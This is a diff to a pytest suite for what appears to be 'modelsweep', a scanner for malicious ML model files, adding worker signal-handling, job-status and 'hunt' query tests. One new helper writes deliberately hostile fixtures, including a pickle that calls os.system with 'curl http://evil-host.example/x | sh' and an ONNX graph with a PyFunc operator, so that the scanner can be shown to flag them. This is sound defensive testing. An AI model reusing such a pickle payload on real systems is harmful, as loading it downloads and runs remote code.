@@ -9,6 +9,7 @@ import subprocess
 import sys
 import time
 from collections.abc import Callable, Iterator
+from contextlib import contextmanager
 from pathlib import Path
 from typing import TypeVar
 
@@ -50,14 +51,21 @@ def broker(tmp_path: Path) -> Iterator[dict[str, str]]:
         }
 
 
-@pytest.fixture
-def worker(broker: dict[str, str], models: Path) -> Iterator[subprocess.Popen[bytes]]:
-    """A worker of that broker, which may read the models only."""
-    command = (sys.executable, "-P", "-c", START, "worker", "--root", str(models), "-c", "2", "--grace", "1")
+@contextmanager
+def started(broker: dict[str, str], models: Path, *options: str, before: str = "") -> Iterator[subprocess.Popen[bytes]]:
+    """Start a worker of a broker, which may read the models only; `before` is Python that runs first."""
+    command = (sys.executable, "-P", "-c", f"{before}\n{START}", "worker", "--root", str(models), "-c", "2", *options)
     environment = {**os.environ, "PYTHONPATH": str(ROOT), **broker}
     with subprocess.Popen(command, env=environment, stderr=subprocess.PIPE) as running:
         yield running
         running.kill()
+
+
+@pytest.fixture
+def worker(broker: dict[str, str], models: Path) -> Iterator[subprocess.Popen[bytes]]:
+    """Such a worker."""
+    with started(broker, models, "--grace", "1") as running:
+        yield running
 
 
 def test_an_audit_of_its_own_says_what_a_scan_says(models: Path, process: Process) -> None:
@@ -109,7 +117,7 @@ def test_a_target_that_is_missing_fails_an_audit(models: Path, process: Process)
 
 
 @pytest.mark.skipif(sys.platform != "linux", reason="looks into /proc")
-@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGTERM, signal.SIGKILL])
+@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGKILL])
 def test_an_audit_that_is_stopped_leaves_no_process_and_no_file(
     many: int, folder: Path, tmp_path: Path, number: signal.Signals
 ) -> None:
@@ -118,12 +126,14 @@ def test_an_audit_that_is_stopped_leaves_no_process_and_no_file(
     command = (sys.executable, "-P", "-c", START, "audit", ".", "--no-progress")
     environment = {**os.environ, "PYTHONPATH": str(ROOT), "TMPDIR": str(temporary)}
     with subprocess.Popen(command, env=environment, stdout=subprocess.PIPE, stderr=subprocess.PIPE) as running:
-        started = until(lambda: below(running.pid) if len(below(running.pid)) >= 5 else set[int]())
-        assert len(started) >= 5, "a guard, its Redis, a worker, its zygotes"
+        begun = until(lambda: below(running.pid) if len(below(running.pid)) >= 5 else set[int]())
+        assert len(begun) >= 5, "a guard, its Redis, a worker, its zygotes"
         running.send_signal(number)
         _, errors = running.communicate(timeout=30)
-    assert b"Traceback" not in errors
-    assert until(lambda: not any(map(alive, started)))
+    assert len(errors.splitlines()) == (number != signal.SIGKILL), errors
+    codes = {signal.SIGINT: 130, signal.SIGTERM: 143, signal.SIGHUP: 129, signal.SIGKILL: -signal.SIGKILL}
+    assert running.returncode == codes[number]
+    assert until(lambda: not any(map(alive, begun)))
     assert until(lambda: not list(temporary.iterdir()))
 
 
@@ -138,7 +148,16 @@ def test_a_job_is_submitted_watched_and_reported(
     assert watched.returncode == 0
     assert b"finished" in watched.stdout
     status = json.loads(process("status", job, "--json", **broker).stdout)
-    assert (status["files"], status["findings"]) == ("4 of 4", "1 critical, 1 warning")
+    assert (status["state"], status["files"], status["files_done"]) == ("finished", 4, 4)
+    assert status["findings"] == {"critical": 1, "warning": 1}
+    of_all = json.loads(process("jobs", "--json", **broker).stdout)
+    assert of_all.pop("created") > 0
+    assert of_all == status
+    said = process("repair", job, **broker).stderr.decode()
+    assert said == f"modelsweep: job {job}: 1 of 1 tasks are done\n", "it was not lost"
+    resumed = process("submit", "--resume", job, **broker)
+    assert (resumed.returncode, resumed.stdout.decode().strip()) == (0, job)
+    assert b"nothing to resume, its listing is over (finished)" in resumed.stderr
     reported = process("report", job, "-f", "json=report.json", **broker)
     assert reported.returncode == 1
     process("scan", str(models), "-f", "json=scan.json", **broker)
@@ -172,10 +191,9 @@ def test_what_files_make_of_each_other_is_counted_and_judged_anew(
 
     status = json.loads(process("status", job, "--json", **broker).stdout)
     for severity in ("critical", "warning", "info"):
-        assert f"{report['summary'][severity]} {severity}" in status["findings"].split(", ")
+        assert status["findings"][severity] == report["summary"][severity]
     for verdict in ("malicious", "review", "clean"):
-        amount = sum(entry["verdict"] == verdict for entry in report["verdicts"])
-        assert f"{amount} {verdict}" in status["verdicts"].split(", ")
+        assert status["verdicts"][verdict] == sum(entry["verdict"] == verdict for entry in report["verdicts"])
 
     again = process("rejudge", job, "-f", "json=again.json", **broker)
     assert b"0 findings are new, 0 are gone" in again.stderr
@@ -209,19 +227,78 @@ def test_a_worker_reads_below_its_roots_only(
     assert "outside the roots" in problem["message"]
 
 
+def serving(worker: subprocess.Popen[bytes]) -> None:
+    """Wait until a worker says that it takes messages."""
+    assert worker.stderr is not None
+    line = next(line for line in worker.stderr if b'"serving"' in line)
+    assert json.loads(line)["slots"] == 2
+
+
+@pytest.mark.parametrize("number", [signal.SIGTERM, signal.SIGHUP])
 def test_a_worker_that_is_told_to_stop_ends_in_good_order(
-    worker: subprocess.Popen[bytes], broker: dict[str, str]
+    models: Path, broker: dict[str, str], number: signal.Signals
 ) -> None:
+    """One that has nothing in hand does not wait for its grace; and none starts itself anew, as Celery's own do."""
     from modelsweep.fleet.liveness import workers
     from modelsweep.fleet.messages import client_of
 
-    with client_of(broker["MODELSWEEP_BROKER_URL"]) as client:
-        assert until(lambda: workers(client))
-        worker.send_signal(signal.SIGTERM)
+    with started(broker, models, "--grace", "600") as worker, client_of(broker["MODELSWEEP_BROKER_URL"]) as client:
+        serving(worker)
+        assert workers(client)
+        worker.send_signal(number)
         _, errors = worker.communicate(timeout=30)
-        assert worker.returncode == 0
+        assert worker.returncode == 0, errors
         assert b"Traceback" not in errors
         assert not workers(client)
+
+
+def test_a_worker_that_nohup_began_outlives_its_terminal(
+    models: Path, broker: dict[str, str], process: Process
+) -> None:
+    before = "import signal; signal.signal(signal.SIGHUP, signal.SIG_IGN)"
+    with started(broker, models, "--grace", "1", before=before) as worker:
+        serving(worker)
+        worker.send_signal(signal.SIGHUP)
+        assert process("audit", "models", "-q", **broker).returncode == 1
+        assert worker.poll() is None
+
+
+def facts_in(folder: Path) -> None:
+    """Fill a folder with a file for each kind of question that people ask of a fleet."""
+    header = json.dumps({"__metadata__": {"source": "https://get.evil-host.example/x"}}).encode()
+    files = {
+        "call.pkl": b"cos\nsystem\n(S'curl http://evil-host.example/x | sh'\ntR.",
+        "metadata.safetensors": len(header).to_bytes(8, "little") + header,
+        "remote/config.json": b'{"model_type": "x", "auto_map": {"AutoModel": "modeling_x.X"}}',
+        "remote/modeling_x.py": b"class X:\n    pass\n",
+        "card/README.md": b"---\nlicense: agpl-3.0\n---\n# A card\n",
+        "graph.onnx": bytes.fromhex("0801") + b"\x12\x02me" + b"\x3a\x1c" + b"\x0a\x17\x0a\x01x\x12\x01y\x1a\x01n"
+        b"\x22\x06PyFunc\x3a\x04evil" + b"\x12\x01g" + b"\x42\x08\x0a\x04evil\x10\x01",
+    }
+    for name, data in files.items():
+        (folder / name).parent.mkdir(parents=True, exist_ok=True)
+        (folder / name).write_bytes(data)
+
+
+def test_the_questions_of_a_hunt_are_answered_of_real_facts(
+    models: Path, broker: dict[str, str], worker: subprocess.Popen[bytes], process: Process
+) -> None:
+    facts_in(models / "asked")
+    assert process("audit", "models/asked", "-q", **broker).returncode == 1
+    asked = {
+        "call:os.system": {"call.pkl"},
+        "detail.args:*curl*": {"call.pkl"},
+        "operator:*PyFunc": {"graph.onnx"},
+        "host:*evil-host.example": {"call.pkl", "metadata.safetensors"},
+        "host:get.evil-host.example": {"metadata.safetensors"},
+        "code-reference:*": {"remote/config.json"},
+        "licence:agpl*": {"card/README.md"},
+    }
+    for path in (models / "asked").rglob("*.*"):
+        path.unlink()  # no model is read
+    for expression, expected in asked.items():
+        lines = process("hunt", expression, "--json", **broker).stdout.splitlines()
+        assert {json.loads(line)["path"].partition("/asked/")[2] for line in lines} == expected, expression
 
 
 @pytest.mark.parametrize(
@@ -238,6 +315,7 @@ def test_a_worker_that_is_told_to_stop_ends_in_good_order(
         (("jobs",), {"MODELSWEEP_KEY": "zz"}, "MODELSWEEP_KEY is not hexadecimal"),
         (("jobs",), {"MODELSWEEP_STORE": "ftp://x"}, "no kind of store"),
         (("worker",), {}, "name folders or addresses with --root"),
+        (("worker", "--root", "/nowhere/at/all"), {}, "no such folder: is what it should show mounted"),
         (("worker", "--root", "/", "--queues", "fast"), {}, "no queue 'fast'"),
     ],
 )
